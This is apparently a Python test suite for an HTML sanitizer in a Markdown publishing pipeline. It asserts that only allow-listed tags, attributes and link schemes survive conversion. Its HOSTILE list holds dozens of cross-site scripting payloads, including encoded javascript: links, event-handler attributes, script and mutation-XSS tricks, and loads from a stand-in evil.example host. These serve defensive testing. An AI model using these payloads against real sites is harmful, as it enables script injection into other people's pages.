"""Nothing a writer can write reaches readers but what is on the list."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from plugins.diagnostics import Place
from plugins.releases.cleaning import ATTRIBUTES, CLASSES, MARK, SCHEME, SCHEMES, TAGS, clean, is_clean
from tests.releases.conftest import CONVERTER, PATH
from tests.thoroughness import examples

HOSTILE = [
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a]( javascript:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](java&#10;script:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A&#x61vascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](vbscript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](//evil.example/)",
    "[a](/\\evil.example/)",
    "[a](\\\\evil.example)",
    "[a](https&#58;//evil.example)",
    "[a]: javascript:alert(1)\n\n[a]",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">a</a>',
    '<a href="&#106;avascript:alert(1)">a</a>',
    '<a href=" jav&#x09;ascript:alert(1)" onclick="alert(1)">a</a>',
    "![a](javascript:alert(1))",
    "![a](//evil.example/a.png)",
    "![a](https://evil.example/a.png)",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    '<img src="https://evil.example/a.png">',
    '<img src="/a.png" srcset="https://evil.example/a.png 2x" onerror="alert(1)">',
    '<picture><source srcset="https://evil.example/a.png"></picture>',
    'teks\n{: onclick="alert(1)" style="position:fixed" }',
    '*teks*{: onerror="alert(1)" style="background:url(//evil.example)" }',
    '[a](https://a.example){: href="javascript:alert(1)" }',
    '![a](a.png){: src="https://evil.example/a.png" onerror="alert(1)" }',
    '[a](https://a.example){: target="_blank" ping="https://evil.example" }',
    "## Judul { .masthead onclick=alert(1) }",
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<style>@import url(//evil.example);</style>",
    '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
    '<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:alert(1)">a</a></svg>',
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    '<form action="https://evil.example"><input name="a"><button formaction="javascript:alert(1)">a</button></form>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><base href="//evil.example">',
    '<link rel="stylesheet" href="//evil.example">',
    '<div style="position:fixed" onmouseover="alert(1)" class="masthead" id="main">a</div>',
    '<p><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><script>alert(1)</script></template><video src="//evil.example"></video><audio controls></audio>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<details open ontoggle=alert(1)><summary>a</summary></details>",
    "<marquee onstart=alert(1)>a</marquee><body onload=alert(1)>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "[^a]\n\n[^a]: <script>alert(1)</script> [b](javascript:alert(1))",
    '*[a]: "><script>alert(1)</script>\n\na',
    "`<script>alert(1)</script>` <b onclick=alert(1)>b</b>",
    "<div><![a",
]


class Listed(HTMLParser):
    """Checks every tag and attribute of HTML, as a browser would read it, against the list."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        for name, value in attrs:
            if name == "class":
                assert set((value or "").split()) <= CLASSES.get(tag, set()), value
            else:
                assert name in ATTRIBUTES.get(tag, set()), (tag, name)
            self.check_address(tag, name, value or "")

    def check_address(self, tag: str, name: str, value: str) -> None:
        if name == "src":
            assert value.startswith("content:"), value
        if name == "href":
            scheme, colon, _ = value.partition(":")
            inside = value[:1] in ("#", "/") and value[1:2] not in ("/", "\\")
            assert inside or (colon and scheme.lower() in SCHEMES | {SCHEME}), value

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


def assert_listed(html: str) -> None:
    parser = Listed(convert_charrefs=True)
    parser.feed(html)
    parser.close()


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_survives_in_a_body(text: str) -> None:
    body, _ = CONVERTER.convert(text, Place(PATH))
    assert_listed(body.html)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_survives_cleaning_alone(text: str) -> None:
    assert_listed(clean(text))


@given(st.lists(st.sampled_from(HOSTILE), min_size=1, max_size=4), st.sampled_from(["", "\n", "\n\n", '"', "*", "<b>"]))
@settings(max_examples=examples(150), deadline=None, derandomize=True)
def test_nothing_hostile_survives_in_company(texts: list[str], between: str) -> None:
    body, _ = CONVERTER.convert(between.join(texts), Place(PATH))
    assert_listed(body.html)
    assert is_clean(body.html), "what a store gives back must not be taken for forged"


def test_cleaning_twice_changes_nothing_more() -> None:
    for text in HOSTILE:
        body, _ = CONVERTER.convert(text, Place(PATH))
        once = clean(body.html)
        assert clean(once) == once


@pytest.mark.parametrize(
    "html",
    [
        '<p lang="en">a <strong>b</strong> <a href="https://a.example" hreflang="en" title="c">d</a></p>',
        '<h2 id="s-a">b</h2>',
        '<ol start="3"><li value="5">a</li></ol>',
        '<td class="align-right" colspan="2">a</td>',
        '<figure><figcaption><span class="credit">b</span></figcaption></figure>',
        '<a href="/tentang.html">a</a><a href="#s-b">b</a><a href="mailto:a@b.example">c</a><a href="tel:+62">d</a>',
        'a<sub>b</sub><sup>c</sup><br><abbr title="d">e</abbr><del>f</del><ins>g</ins><mark>h</mark><q>i</q><hr>',
    ],
)
def test_what_is_on_the_list_survives(html: str) -> None:
    wrapped = f"<table><tbody><tr>{html}</tr></tbody></table>" if html.startswith("<td") else html
    assert clean(wrapped) == wrapped


def test_what_is_ours_survives_and_its_mark_does_not() -> None:
    ours = f'<img alt="a" src="{MARK}:content:a.png"><div class="table" role="{MARK}:region" tabindex="{MARK}:0"></div>'
    assert clean(ours) == ours.replace(f"{MARK}:", "")


@pytest.mark.parametrize(
    ("text", "html", "found"),
    [
        ('<img src="content:releases/2026/08/rahasia.png" alt="a">', "<p></p>", ["<img>"]),
        ('<p>a <img src="a.png"></p>', "<p>a </p>", ["<img>"]),
        ('<a href="content:releases/2026/08/a.id.md">b</a>', "<p><a>b</a></p>", ["href (<a>)"]),
        ('<a href="lain.id.md">b</a>', "<p><a>b</a></p>", ["href (<a>)"]),
        ('<a href="https://a.example">b</a>', '<p><a href="https://a.example">b</a></p>', []),
        (
            '<div role="main" tabindex="1" aria-label="a">b</div>',
            "<div>b</div>",
            ["role (<div>)", "tabindex (<div>)", "aria-label (<div>)"],
        ),
        ('<p style="color: red">a</p>', "<p>a</p>", ["style (<p>)"]),
        ("a<script>b</script>", "<p>a</p>", ["<script>"]),
        ("*a*{: onclick=b}", "<p><em>a</em></p>", ["onclick (<em>)"]),
        ("![a](b.png) c", '<p><img alt="a" src="content:releases/2026/08/b.png"> c</p>', []),
        ("|a|\n|-|\n|b|", None, []),
        ("a[^1]\n\n[^1]: b <b>c</b>", None, []),
        ("<!-- a -->b", None, []),
    ],
)
def test_what_is_taken_away_is_told(text: str, html: str | None, found: list[str]) -> None:
    body, problems = CONVERTER.convert(text, Place(PATH))
    assert html in (None, body.html)
    assert {problem.name for problem in problems} <= {"raw-html-removed"}
    assert [problem.values["found"] for problem in problems] == found


def test_what_is_taken_away_is_placed() -> None:
    _, problems = CONVERTER.convert("Satu.\n\nDua <blink>tiga</blink>.", Place(PATH, 10))
    assert [problem.place for problem in problems] == [Place(PATH, 12, 5)]


def test_rooted_links_in_raw_html_are_followed_too() -> None:
    body, _ = CONVERTER.convert('<a href="/tidak-ada.html">a</a>', Place(PATH))
    assert [link.path for link in body.links] == ["/tidak-ada.html"]
